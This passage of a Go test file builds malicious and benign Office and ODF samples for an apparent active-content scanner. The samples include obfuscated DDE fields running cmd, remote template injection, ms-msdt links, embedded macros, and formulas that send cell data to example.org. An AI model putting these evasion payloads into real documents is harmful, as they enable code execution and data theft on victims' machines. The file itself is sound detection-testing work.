package corpus

import (
	"encoding/base64"
	"fmt"
	"strings"

	"airlock"
)

const wordSpace = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`

// code is a field of Word: pieces of its code, of which those that begin with "<" are markup.
func code(pieces ...string) string {
	var b strings.Builder
	b.WriteString(mark("begin"))
	for _, p := range pieces {
		if strings.HasPrefix(p, "<") {
			b.WriteString(p)
		} else {
			b.WriteString(`<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`)
		}
	}
	return b.String() + mark("separate") + `<w:r><w:t>x</w:t></w:r>` + mark("end")
}

func mark(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }

func inText(inner string) parts {
	return parts{"word/document.xml": wordText("<w:p>" + inner + "</w:p>")}
}

// relTag is the relationships of a text with one that is written by hand.
func relTag(attrs string) parts {
	return parts{"word/_rels/settings.xml.rels": xmlV1 + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ` + attrs + `/></Relationships>`}
}

func chunk(name, kind, data string) parts {
	return parts{"word/" + name: data, "word/_rels/document.xml.rels": rels("aFChunk", "/word/"+name), "[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/`+name+`" ContentType="`+kind+`"/>`)}
}

func rtf(inner string) parts { return chunk("a.rtf", "application/rtf", `{\rtf1\ansi `+inner+"}") }

func formulaCell(f string) parts {
	return parts{"xl/worksheets/sheet1.xml": `<worksheet xmlns="x"><sheetData><row><c><f>` + f + `</f></c></row></sheetData></worksheet>`}
}

func officeTricks() []Case {
	var cases []Case
	runs := func(name, mediaType string, change parts) {
		cases = append(cases, officeCase(name, mediaType, airlock.ActiveContent, change))
	}
	fine := func(name, mediaType string, change parts) {
		cases = append(cases, officeCase(name, mediaType, "", change))
	}
	fieldTricks(runs, fine)
	relationshipTricks(runs, fine)
	chunkTricks(runs, fine)
	formulaTricks(runs, fine)
	odfTricks(runs, fine)
	shareTricks(runs, fine)
	return append(cases, boundTricks()...)
}

type addOffice func(name, mediaType string, change parts)

func fieldTricks(runs, fine addOffice) {
	quote := code("QUOTE 68 68 69 65 85 84 79")
	runs("dde-by-a-quote", docxType, inText(code(" ", quote, ` cmd "/k calc"`)))
	runs("dde-by-a-quote-in-hexadecimal", docxType, inText(code(code("QUOTE 0x44 0x44 0x45"), ` cmd "/k"`)))
	runs("dde-by-a-quote-of-its-end", docxType, inText(code("DD", code(`QUOTE "EAUTO"`), ` cmd`)))
	runs("dde-by-a-bookmark", docxType, inText(code(code(`SET a "DDEAUTO cmd"`), code("REF a"))))
	runs("dde-by-a-simple-field", docxType, inText(code(`<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>x</w:t></w:r></w:fldSimple>`, " cmd")))
	runs("dde-over-paragraphs", docxType, inText(code("DD", "</w:p><w:p>", "EAUTO cmd")))
	runs("dde-in-a-text-box", docxType, inText(`<w:r><w:pict><w:txbxContent><w:p>`+code("DDE cmd")+`</w:p></w:txbxContent></w:pict></w:r>`))
	runs("dde-around-a-text-box", docxType, inText(code("DD", `<w:r><w:pict><w:txbxContent><w:p>`+mark("end")+`</w:p></w:txbxContent></w:pict></w:r>`, "E cmd")))
	runs("dde-behind-a-foreign-end", docxType, inText(code("DD", `<w:r><z:fldChar xmlns:z="urn:z" z:fldCharType="end"/></w:r>`, "E cmd")))
	runs("dde-behind-an-end-in-foreign-markup", docxType, inText(code("DD", `<z:z xmlns:z="urn:z">`+mark("end")+`</z:z>`, "E cmd")))
	runs("dde-by-elements-of-another-namespace", docxType, inText(`<z:z xmlns:z="urn:z">`+strings.ReplaceAll(code(code("QUOTE 68 68 69"), " cmd"), "w:", "z:")+`</z:z>`))
	runs("dde-around-foreign-text", docxType, inText(code("DD", `<w:r><z:instrText xmlns:z="urn:z">x</z:instrText></w:r>`, "E cmd")))
	runs("dde-by-a-mark-that-is-two", docxType, inText(strings.Replace(code("DDE cmd"), `w:fldCharType="begin"`, `xmlns:z="urn:z" z:fldCharType="end" w:fldCharType="begin"`, 1)))
	runs("dde-in-an-alternative", docxType, inText(code("DD", `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="z">`+mark("end")+`</mc:Choice></mc:AlternateContent>`, "E cmd")))
	runs("dde-without-what-was-deleted", docxType, inText(code("DD", `<w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>`, "E cmd")))
	runs("dde-around-an-element-within-its-text", docxType, inText(mark("begin")+`<w:r><w:instrText>DD<z:f xmlns:z="urn:z">x</z:f>E cmd</w:instrText></w:r>`+mark("end")))
	runs("dde-behind-many-blanks", docxType, inText(code(strings.Repeat(" ", 40000), "DDE cmd")))
	runs("dde-by-a-reference-that-straddles", docxType, inText(code(strings.Repeat(" ", 1000)+strings.Repeat("&#32;&#x000020;", 4000)+"DD&#00000069; cmd")))
	runs("dde-by-a-declared-name", docxType, inText(`<w:fldSimple xmlns:instr="PAGE" w:instr="DDE cmd"/>`))
	runs("text-from-a-share-by-a-field", docxType, inText(code(`INCLUDETEXT "\\\\example.org\\share\\a.docx"`)))
	runs("text-from-the-web-by-a-quote", docxType, inText(code(`INCLUDETEXT `, code(`QUOTE 104 116 116 112 58 47 47 101`), "xample.org/a")))
	runs("object-from-the-web-by-a-field", docxType, inText(code(`LINK htmlfile "http://example.org/a.hta" \a`)))
	runs("script-as-a-link-by-a-field", docxType, inText(code(`HYPERLINK "ms-msdt:/id x"`)))

	fine("field-of-fields", docxType, inText(code("IF ", code("MERGEFIELD sex"), ` = "f" "Ms" "Mr"`)+code("= ", code("PAGE"), " - 1")))
	fine("contents-of-links", docxType, inText(mark("begin")+`<w:r><w:instrText>TOC \o "1-3"</w:instrText></w:r>`+mark("separate")+code(`HYPERLINK \l "_Toc1"`)+code("PAGEREF _Toc1")+mark("end")))
	fine("field-in-a-text-box-and-its-alternative", docxType, inText(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Fallback></mc:AlternateContent>`))
	fine("references-of-endnote", docxType, inText(code(" ADDIN EN.CITE ", code(" ADDIN EN.CITE.DATA "))))
	runs("dde-by-letters-of-numbers", docxType, inText(code(code(`= 30 \* ALPHABETIC`), code(`= 5 \* ALPHABETIC`), ` cmd`)))
	runs("dde-by-the-picture-of-a-number", docxType, inText(code(code(`= 1 \# "'DDE'"`), ` cmd`)))
	runs("dde-behind-fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)+code("DDE cmd")))
	fine("fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)))
	fine("field-that-has-no-end", docxType, inText(mark("begin")+`<w:r><w:instrText> PAGE </w:instrText></w:r>`))
	long := strings.Repeat(" ", 600)
	runs("text-from-a-share-behind-blanks", docxType, inText(code(`INCLUDETEXT `+long+`"\\\\example.org\\s\\a.docx"`)))
	runs("text-from-a-share-behind-switches", docxType, inText(code(`INCLUDETEXT `+strings.Repeat(`\* MERGEFORMAT `, 60)+`"\\\\example.org\\s\\a.docx"`)))
	runs("object-from-a-share-behind-blanks", docxType, inText(code(`LINK `+long, long+`Word.Document.8 "\\\\example.org\\s\\a.docx" \a`)))
	runs("order-as-a-link-behind-blanks", docxType, inText(code(`HYPERLINK`+long+`"search-ms:query=x"`)))
	runs("text-from-a-share-by-a-simple-field-behind-blanks", docxType, inText(`<w:fldSimple w:instr="INCLUDETEXT `+long+`&quot;\\example.org\s\a.docx&quot;"/>`))
	runs("text-that-another-field-names", docxType, inText(mark("begin")+`<w:r><w:instrText>INCLUDETEXT "</w:instrText></w:r>`+mark("begin")+`<w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r>`+mark("end")+`<w:r><w:instrText>"</w:instrText></w:r>`+mark("end")))
	runs("picture-from-a-share-by-a-field", docxType, inText(code(`INCLUDEPICTURE "\\\\example.org\\s\\a.png" \d`)))
	fine("text-that-another-field-names-in-a-folder", docxType, inText(code(`INCLUDETEXT "`, code(`FILENAME \p`), `\\..\\a.docx"`)))
	fine("link-of-1800-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 1800)+`" \t "_blank"`)))
	fine("link-of-5000-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 5000)+`"`)))
	runs("data-on-a-share-by-a-field", docxType, inText(code(`DATABASE \d "\\\\example.org\\s\\a.mdb" \s "SELECT * FROM t"`)))
	runs("data-on-a-share-by-a-fields-connection", docxType, inText(code(`DATABASE \c "Provider=a;Data Source=\\\\example.org\\s\\a.mdb" \s "SELECT * FROM t"`)))
	fine("data-of-a-disk-by-a-field", docxType, inText(code(`DATABASE \d "C:\\a.mdb" \c "Provider=a;Data Source=C:\\a.mdb;Mode=Read" \s "SELECT * FROM t WHERE a='`, code("MERGEFIELD a"), `'"`)))
	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
}

func relationshipTricks(runs, fine addOffice) {
	const web = ` Target="https://example.org/a.dotm" TargetMode="External"`
	kind := ` Type="` + relsOf + `attachedTemplate"`
	fine("letters-with-data-on-a-share", docxType, relTag(`Id="a" Type="`+relsOf+`mailMergeSource" Target="file://example.org/s/a.mdb" TargetMode="External"`))
	fine("letters-with-data", docxType, relTag(`Id="a" Type="`+relsOf+`mailMergeSource" Target="file:///C:\Users\a\a.xlsx" TargetMode="External"`))
	drawn := func(href string) parts {
		return inText(`<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="` + href + `"/></w:pict></w:r>`)
	}
	runs("order-as-a-link-of-a-drawing", docxType, drawn("ms-msdt:/id x"))
	runs("script-as-a-link-of-a-drawing", docxType, drawn("javascript:alert(1)"))
	fine("link-of-a-drawing", docxType, drawn("https://example.org/"))
	runs("template-behind-a-declared-type", docxType, relTag(`xmlns:Type="urn:x" Id="a"`+kind+web))
	runs("template-behind-a-declared-target", docxType, relTag(`xmlns:Target="a.dotm" Id="a"`+kind+web))
	runs("template-beside-another-type", docxType, relTag(`xmlns:z="urn:z" z:Type="`+relsOf+`image" Id="a"`+kind+web))
	runs("template-beside-another-target", docxType, relTag(`xmlns:z="urn:z" z:Target="a.dotm" Id="a"`+kind+web))
	runs("template-whose-type-has-blanks", docxType, relTag(`Id="a" Type=" `+relsOf+`attachedTemplate "`+web))
	runs("template-whose-type-has-a-slash", docxType, relTag(`Id="a" Type="`+relsOf+`attachedTemplate/"`+web))
	runs("template-whose-type-has-a-query", docxType, relTag(`Id="a" Type="`+relsOf+`attachedTemplate?a/b"`+web))
	runs("template-whose-type-has-an-escape", docxType, relTag(`Id="a" Type="`+relsOf+`attached%74emplate"`+web))
	runs("template-of-the-strict-kind", docxType, relTag(`Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"`+web))
	runs("template-behind-many-blanks", docxType, relTag(`Id="a"`+kind+` Target="`+strings.Repeat("&#32;", 5000)+`https://example.org/a" TargetMode="External"`))
	runs("template-behind-blanks-that-stand-there", docxType, relTag(`Id="a"`+kind+` Target="`+strings.Repeat(" ", 5000)+`https://example.org/a" TargetMode="External"`))
	runs("template-from-a-share-by-four-slashes", docxType, relTag(`Id="a"`+kind+` Target="file:////example.org/share/a.dotm" TargetMode="External"`))
	runs("template-from-a-share-by-escapes", docxType, relTag(`Id="a"`+kind+` Target="file:%2f%2fexample.org/share/a.dotm" TargetMode="External"`))
	runs("template-from-a-share-that-says-it-is-inside", docxType, relTag(`Id="a"`+kind+` Target="\\example.org\share\a.dotm"`))
	runs("template-from-a-share-by-one-slash", docxType, relTag(`Id="a"`+kind+` Target="file:/\\example.org\share\a.dotm" TargetMode="External"`))
	runs("script-behind-a-harmless-one", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="javascript:void(0);alert(1)" TargetMode="External"`))
	runs("installer-as-a-link", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="ms-appinstaller:?source=https://example.org/a" TargetMode="External"`))
	fine("link-of-sharepoint", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="ms-word:ofe|u|https://example.org/a.docx" TargetMode="External"`))
	runs("template-in-folders-in-capitals", docxType, parts{"word/_RELS/settings.xml.RELS": relTag(`Id="a"` + kind + web)["word/_rels/settings.xml.rels"]})
	runs("template-whose-type-has-an-escaped-capital", docxType, relTag(`Id="a" Type="`+relsOf+`attached%54emplate"`+web))
	runs("macros-behind-a-declared-type", docxType, parts{"[Content_Types].xml": strings.Replace(typesWith("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", ""), `<Override `, `<Override xmlns:ContentType="`+docxMain+`" `, 1)})
	runs("macros-by-a-second-type", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)})
	runs("macros-by-a-prefixed-type", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<p:Override xmlns:p="http://schemas.openxmlformats.org/package/2006/content-types" PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/x.bin": "x"})
	runs("macros-by-a-type-of-a-foreign-namespace", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<z:Override xmlns:z="urn:z" PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/x.dat": "x"})
	runs("macros-by-an-escaped-name", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/%78.dat" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/x.dat": "x"})
	runs("text-of-word-called-a-page", docxType, parts{"word/header1.html": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
	runs("text-of-word-under-another-name", docxType, parts{"word/header1.dat": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
	runs("template-by-a-part-of-relationships", docxType, parts{"word/a.xml": relTag(`Id="a"` + kind + web)["word/_rels/settings.xml.rels"],
		"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/a.xml" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`)})
	runs("macro-document-called-a-picture", docxType, parts{"word/media/image1.png": string(docmOf())})
	runs("text-of-word-called-a-drawing", docxType, parts{"word/a.vml": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
	runs("chart-whose-object-is-on-a-share", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", `file:///\\example.org\a.xlsx!`)})

	runs("template-as-the-kernel-names-it", docxType, relTag(`Id="a"`+kind+` Target="\??\UNC\example.org\s\a.dotm" TargetMode="External"`))
	runs("template-on-a-share-behind-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost//example.org/s/a.dotm" TargetMode="External"`))
	fine("template-of-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost/C:/a.dotm" TargetMode="External"`))
	fine("template-on-a-mac", docxType, relTag(`Id="a"`+kind+` Target="file:////Users/ann/Library/Letter.dotx" TargetMode="External"`))
	fine("template-on-an-old-mac", docxType, relTag(`Id="a"`+kind+` Target="Macintosh%20HD:Users:ann:Letter.dotx" TargetMode="External"`))
	fine("chart-whose-workbook-is-on-the-web", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", "https://example.org/Book1.xlsx!")})
	fine("types-with-a-prefix", docxType, parts{"[Content_Types].xml": `<p:Types xmlns:p="http://schemas.openxmlformats.org/package/2006/content-types"><p:Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><p:Default Extension="xml" ContentType="application/xml"/><p:Override PartName="/word/document.xml" ContentType="` + docxMain + `"/></p:Types>`})
	fine("type-said-twice", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/document.xml" ContentType="`+docxMain+`"/>`)})
	fine("link-of-many-bytes", docxType, parts{"word/_rels/document.xml.rels": rels("hyperlink", "https://example.org/?q="+strings.Repeat("a", 9000)+"!")})
}

func chunkTricks(runs, fine addOffice) {
	runs("rtf-with-a-template", docxType, rtf(`{\*\template http://example.org/a.dotm}`))
	runs("rtf-with-an-escaped-template", docxType, rtf(`{\*\template {\b \'68t\u116?p}://example.org/a.dotm}`))
	runs("rtf-with-a-template-on-a-share", docxType, rtf(`{\template \\\\example.org\\a.dotm}`))
	runs("rtf-with-dde", docxType, rtf(`{\field{\*\fldinst DDEAUTO cmd "/k"}{\fldrslt x}}`))
	runs("rtf-with-dde-split", docxType, rtf(`{\field{\*\fldinst {\b D}{\*\unknown x}{\i \'44}\u69?AUTO cmd}{\fldrslt x}}`))
	runs("rtf-with-dde-behind-bytes", docxType, rtf("{\\pict\\bin3 }}}}{\\field{\\*\\fldinst{DDE cmd}}}"))
	runs("rtf-with-dde-by-a-quote", docxType, rtf(`{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt x}} cmd}{\fldrslt x}}`))
	runs("rtf-with-a-text-from-the-web", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT "http://example.org/a.docx"}}`))
	runs("rtf-with-a-picture-from-a-share", docxType, rtf(`{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\example.org\\\\a.png" \\d}}`))
	runs("rtf-with-an-object", docxType, rtf(`{\object\objemb{\*\objclass Package}{\*\objdata 0105}}`))
	runs("rtf-with-a-text-behind-blanks", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT `+strings.Repeat(" ", 600)+`"http://example.org/a.doc"}}`))
	runs("rtf-called-a-picture", docxType, parts{"word/media/image1.png": `{\rtf1{\object\objautlink}}`})
	page := "<html><script>alert(1)</script></html>"
	flat := func(inner string) string {
		return xmlV1 + `<!-- x --><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml" pkg:contentType="` + docxMain + `"><pkg:xmlData><w:document ` + wordSpace + `><w:body><w:p/></w:body></w:document></pkg:xmlData></pkg:part>` + inner + `</pkg:package>`
	}
	flatVBA := flat(`<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part>`)
	runs("flat-package-with-macros-taken-in", docxType, chunk("a.xml", "application/xml", flatVBA))
	runs("flat-package-with-macros-behind-a-long-remark", docxType, chunk("a.xml", "application/xml", strings.Replace(flatVBA, " x ", strings.Repeat("x", 9000), 1)))
	runs("flat-package-with-an-object-called-a-text", docxType, chunk("a.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document+xml", flat(`<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="`+relsOf+`oleObject" Target="http://example.org/a" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>`)))
	runs("flat-package-with-macros-called-a-page", docxType, chunk("a.html", "application/xml", flatVBA))
	word2003 := func(template string) parts {
		return chunk("a.xml", "application/xml", xmlV1+`<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="`+template+`"/></w:docPr><w:body><w:p/></w:body></w:wordDocument>`)
	}
	runs("text-of-word-2003-with-a-template-taken-in", docxType, word2003("http://example.org/a.dot"))
	fine("text-of-word-2003-taken-in", docxType, word2003(`C:\a.dot`))
	fine("flat-package-taken-in", docxType, chunk("a.xml", "application/xml", flat("")))
	runs("mail-with-a-script-in-base64", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(page), 20)))
	runs("mail-with-a-script-in-pieces", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html>\n--x\n<scr=\nipt>=3D</script>"))
	runs("page-under-another-name", docxType, chunk("a.dat", "text/html", page))
	runs("page-with-a-field", docxType, chunk("a.html", "text/html", `<html><!--[if supportFields]><span style='mso-element:field-begin'></span><span style='mso-spacerun:yes'> </span>DDE cmd<![endif]--></html>`))
	runs("page-with-a-field-as-a-style", docxType, chunk("a.html", "text/html", `<html><span style='mso-field-code:"DDE cmd"'>x</span></html>`))
	open := func(inner string) parts {
		return chunk("a.html", "text/html", `<html><body><img src="x">`+inner+`</body></html>`)
	}
	runs("page-with-an-open-tag-and-a-frame", docxType, open(`<iframe src="http://example.org/"></iframe>`))
	runs("page-with-an-open-tag-and-an-object", docxType, open(`<object data="a"></object>`))
	runs("page-with-an-open-tag-and-a-field", docxType, open(`<span style='mso-element:field-begin'></span> DDE cmd`))
	runs("page-with-an-open-tag-and-a-frame-far-down", docxType, chunk("a.html", "text/html", `<html><body><img src="x">`+strings.Repeat("<p>x</p>", 3000)+`<iframe src="http://example.org/"></iframe></body></html>`))
	runs("page-with-an-open-tag-and-a-frame-over-two-lines", docxType, open("<frameset><frame\nsrc=\"http://example.org/\"></frameset>"))
	runs("page-with-a-script-by-a-reference", docxType, open(`<a href="java&#115;cript:alert(1)">x</a>`))
	runs("page-with-an-order-by-a-reference", docxType, open(`<a href="ms-msdt&colon;/id">x</a>`))
	field := func(code string) parts {
		return open(`<!--[if supportFields]><span style='mso-element:field-begin'></span>` + code + `<span style='mso-element:field-separator'></span><![endif]-->x<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->`)
	}
	runs("page-with-a-field-by-a-reference", docxType, field(" D&#68;EAUTO cmd"))
	runs("page-with-a-field-in-pieces", docxType, field(` DD<![endif]--><!--[if supportFields]>EAUTO cmd`))
	runs("page-with-a-text-from-the-web-by-a-field", docxType, field(` INCLUDETEXT "http://example.org/a.docx"`))
	runs("page-with-a-picture-from-a-share-by-a-field", docxType, field(` INCLUDEPICTURE "\\\\example.org\\s\\a.png"`))
	runs("page-with-an-object-from-the-web-by-a-field", docxType, field(` LINK Word.Document.8 "http://example.org/a.doc" "" \a`))
	fine("page-with-fields", docxType, field(` PAGE <span>\* MERGEFORMAT</span>`))
	fine("page-with-a-picture-by-a-field", docxType, field(` INCLUDEPICTURE "https://example.org/a.png" \d`))
	fine("page-about-scripts", docxType, open(`<p>&lt;script&gt; and &lt;frame &gt; are tags; D&amp;D &#68;DE</p>`))
	fine("page-with-an-open-tag", docxType, chunk("a.html", "text/html", `<html><body><img src="x"><br><p>x</body></html>`))
	fine("page-with-a-field-of-a-link", docxType, chunk("a.html", "text/html", `<html><span style='mso-element:field-begin'></span> HYPERLINK "https://example.org"</html>`))
	fine("rtf-of-a-letter", docxType, rtf(`{\fonttbl{\f0 Arial;}}{\*\template C:\\Users\\a\\Normal.dotm}{\field{\*\fldinst HYPERLINK "https://example.org"}{\fldrslt here}} DDEAUTO is a field.`))
	fine("mail-with-a-picture", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html><a href=3D\"https://example.org\">x</a>\n--x\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(strings.Repeat("\x89PNG", 90)), 76)+"\n--x--\n"))
}

func inBase64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func wrap(s string, n int) string {
	var b strings.Builder
	for ; len(s) > n; s = s[n:] {
		b.WriteString(s[:n] + "\n")
	}
	return b.String() + s
}

func formulaTricks(runs, fine addOffice) {
	runs("formula-that-sends-cells", xlsxType, formulaCell(`_xlfn.WEBSERVICE("https://example.org/?"&amp;A1)`))
	for _, n := range []int{16280, 16300, 16310, 16320} { // the buffer ends before, in and behind what counts
		runs(fmt.Sprintf("formula-in-cdata-that-straddles-%d", n), xlsxType, formulaCell(`<![CDATA[IF("`+strings.Repeat("]", n)+`">"]] >",cmd|'/c calc'!A0)]]>`))
	}
	fine("formula-in-cdata", xlsxType, formulaCell(`<![CDATA[IF("`+strings.Repeat("]", 20_000)+`">"]]",1,2)]]>`))
	runs("formula-that-starts-a-server", xlsxType, formulaCell(`IF(1,RTD("a.b","","c"))`))
	runs("dde-formula-within-another", xlsxType, formulaCell(`IF(A1="x",(cmd|'/c calc'!A0),"")`))
	runs("dde-formula-as-a-name", xlsxType, parts{"xl/workbook.xml": strings.Replace(xlsxParts["xl/workbook.xml"], "Sheet1!$A$1", "cmd|'/c calc'!A0", 1)})
	runs("dde-formula-as-a-rule", xlsxType, parts{"xl/worksheets/sheet1.xml": `<worksheet><conditionalFormatting><cfRule><formula>cmd|'/c'!A0</formula></cfRule></conditionalFormatting></worksheet>`})
	runs("picture-that-sends-cells", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/?"&amp;A1)`))
	runs("dde-formula-around-an-element", xlsxType, formulaCell(`<z:instrText xmlns:z="urn:z"/>cmd|'/c calc'!A0`))
	runs("dde-formula-behind-a-column", xlsxType, formulaCell(`SUM(T['#a])+cmd|'/c calc'!A0`))
	runs("picture-whose-address-is-in-a-cell", xlsxType, formulaCell(`_xlfn.IMAGE(B1)`))
	runs("picture-whose-address-is-a-name", xlsxType, formulaCell(`_xlfn.IMAGE(x)`))
	runs("picture-whose-address-begins-with-nothing", xlsxType, formulaCell(`_xlfn.IMAGE(""&amp;"https://example.org/"&amp;A1)`))
	runs("picture-whose-address-is-long", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/`+strings.Repeat("a", 600)+`"&amp;A1)`))
	runs("formula-that-hands-on-what-sends-cells", xlsxType, formulaCell(`_xlfn.MAP(B1:B9,_xleta.WEBSERVICE)`))
	runs("formula-that-calls-what-sends-cells", xlsxType, formulaCell(`_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("https://example.org/"&amp;B1))`))
	runs("link-of-a-formula-to-an-order", xlsxType, formulaCell(`IF(A1,HYPERLINK("ms-msdt:/id x","here"),1)`))
	runs("link-of-a-formula-that-is-put-together-of-texts", xlsxType, formulaCell(`HYPERLINK( ("search-"&amp;"ms:query="&amp;A1),"here")`))
	fine("link-of-a-formula-that-is-put-together-of-cells", xlsxType, formulaCell(`HYPERLINK(A1&amp;"javascript:x","here")`))
	fine("links-of-a-formula", xlsxType, formulaCell(`HYPERLINK("ms-excel:ofe|u|https://example.org/a.xlsx")&amp;HYPERLINK("#Sheet1!A1","javascript:")&amp;HYPERLINK("mailto:"&amp;A1)`))
	rule := func(name, val string) parts {
		return parts{"xl/worksheets/sheet1.xml": `<worksheet xmlns="x"><sheetData/><conditionalFormatting><cfRule type="colorScale"><colorScale><cfvo type="` + name + `" val="` + val + `"/></colorScale></cfRule></conditionalFormatting></worksheet>`}
	}
	runs("dde-formula-as-a-limit", xlsxType, rule("formula", "cmd|'/c calc'!A0"))
	fine("formula-as-a-limit", xlsxType, rule("formula", "MAX($A$1:$A$9)/2"))
	runs("dde-formula-of-a-pivot-table", xlsxType, parts{"xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition xmlns="x"><cacheFields><cacheField name="a" formula="cmd|'/c calc'!A0"/></cacheFields></pivotCacheDefinition>`})
	fine("formula-of-a-pivot-table", xlsxType, parts{"xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition xmlns="x"><cacheFields><cacheField name="call (me)" formula="price *'number of'"/></cacheFields></pivotCacheDefinition>`})
	runs("dde-formula-as-a-text-of-a-shape", xlsxType, parts{"xl/drawings/drawing1.xml": `<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="" textlink="cmd|'/c calc'!A0"/></xdr:wsDr>`})
	fine("formula-as-a-text-of-a-shape", xlsxType, parts{"xl/drawings/drawing1.xml": `<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="" textlink="Sheet1!$A$1"/></xdr:wsDr>`})
	fine("picture-of-a-constant", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/a.png","a &amp; b (c)",1)`))
	fine("formula-with-names-of-functions", xlsxType, formulaCell(`IF(A1="WEBSERVICE",SUM(ImportData),Webservice!A1)`))
	fine("pictures-of-one-name-but-for-case", xlsxType, parts{"xl/media/a.png": "x", "xl/media/a.PNG": "x"})
	fine("formulas-of-text", xlsxType, formulaCell(`"call (me) "&amp;'my "call(2)" sheet'!A1&amp;HYPERLINK("https://example.org/?q="&amp;A2,"RTD(1)")`))
	fine("formula-of-google", xlsxType, formulaCell(`IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.org"",""A1"")"),"1")`))
}

func odfTricks(runs, fine addOffice) {
	const href = `vnd.sun.star.script:a.py$f?language=Python&amp;location=share`
	runs("macro-on-load-behind-a-declaration", odtType, body(odtType, `<script:event-listener xmlns:href="#x" xmlns:language="q" script:event-name="dom:load" xlink:href="`+href+`"/>`))
	runs("macro-on-load-in-another-namespace", odtType, body(odtType, `<script:event-listener xmlns:z="urn:z" z:href="#a" xlink:href="`+href+`"/>`))
	runs("object-from-the-web-behind-a-declaration", odtType, body(odtType, `<draw:object xmlns:href="./Object 1" xlink:href="http://example.org/a.ods"/>`))
